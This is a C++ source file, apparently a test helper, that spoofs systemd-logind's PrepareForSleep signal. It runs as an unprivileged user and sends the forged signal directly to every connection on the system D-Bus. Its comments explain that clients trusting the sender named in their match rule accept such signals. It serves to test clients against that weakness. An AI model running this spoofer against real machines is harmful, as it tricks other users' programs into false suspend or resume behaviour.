// tolvane-test-sleep-spoofer: what any user of a system bus can do to a
// client that trusts the sender named in its match rule. It sends
// PrepareForSleep as a unicast signal, whose destination is set, to every
// connection on the bus at DBUS_SYSTEM_BUS_ADDRESS. The bus delivers such a
// signal whatever the receiver's match rules say, and the default policy of
// a system bus lets every user send signals.
//
//   tolvane-test-sleep-spoofer true|false
//
// Run it as an unprivileged user (setpriv). It prints "spoofed N", N the
// connections it sent to, once the bus has routed every one of them.
#include "bus_handles.h"

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <string_view>

namespace {

// A NULL-terminated array of strings, each and the array from malloc.
struct StrvFree {
    void operator()(char** strv) const noexcept
    {
        for (char** s = strv; *s; ++s)
            std::free(*s);
        std::free(strv);
    }
};
using Strv = std::unique_ptr<char*[], StrvFree>;

int fail(const char* what, int r)
{
    std::fprintf(stderr, "tolvane-test-sleep-spoofer: %s: %s\n", what, std::strerror(-r));
    return 1;
}

int send_to(sd_bus* bus, const char* destination, int sleeping)
{
    sd_bus_message* raw = nullptr;
    int r = sd_bus_message_new_signal(
        bus, &raw, "/org/freedesktop/login1", "org.freedesktop.login1.Manager", "PrepareForSleep");
    const BusMessage m(raw);
    if (r < 0 || (r = sd_bus_message_set_destination(m.get(), destination)) < 0
        || (r = sd_bus_message_append(m.get(), "b", sleeping)) < 0)
        return r;
    return sd_bus_send(bus, m.get(), nullptr);
}

} // namespace

int main(int argc, char** argv)
{
    if (argc != 2 || (std::string_view(argv[1]) != "true" && std::string_view(argv[1]) != "false")) {
        std::fprintf(stderr, "usage: tolvane-test-sleep-spoofer true|false\n");
        return 2;
    }
    const int sleeping = std::string_view(argv[1]) == "true";
    sd_bus* raw = nullptr;
    int r = sd_bus_open_system(&raw);
    const FlushingBusConnection bus(raw);
    if (r < 0)
        return fail("cannot connect to the system bus", r);
    char** raw_names = nullptr;
    if ((r = sd_bus_list_names(bus.get(), &raw_names, nullptr)) < 0)
        return fail("cannot list the bus's connections", r);
    const Strv names(raw_names);
    const char* self = "";
    (void)sd_bus_get_unique_name(bus.get(), &self);
    int sent = 0;
    for (char** name = names.get(); name && *name; ++name) {
        // Unique names only, each connection once.
        if ((*name)[0] == ':' && std::strcmp(*name, self) != 0 && send_to(bus.get(), *name, sleeping) >= 0)
            ++sent;
    }
    // The bus handles a connection's messages in order: once it answers
    // this, it has routed every signal before it.
    BusError error;
    if ((r = sd_bus_call_method(bus.get(), "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
             "GetId", &error.error, nullptr, ""))
        < 0)
        return fail("no answer from the bus", r);
    std::printf("spoofed %d\n", sent);
    return 0;
}
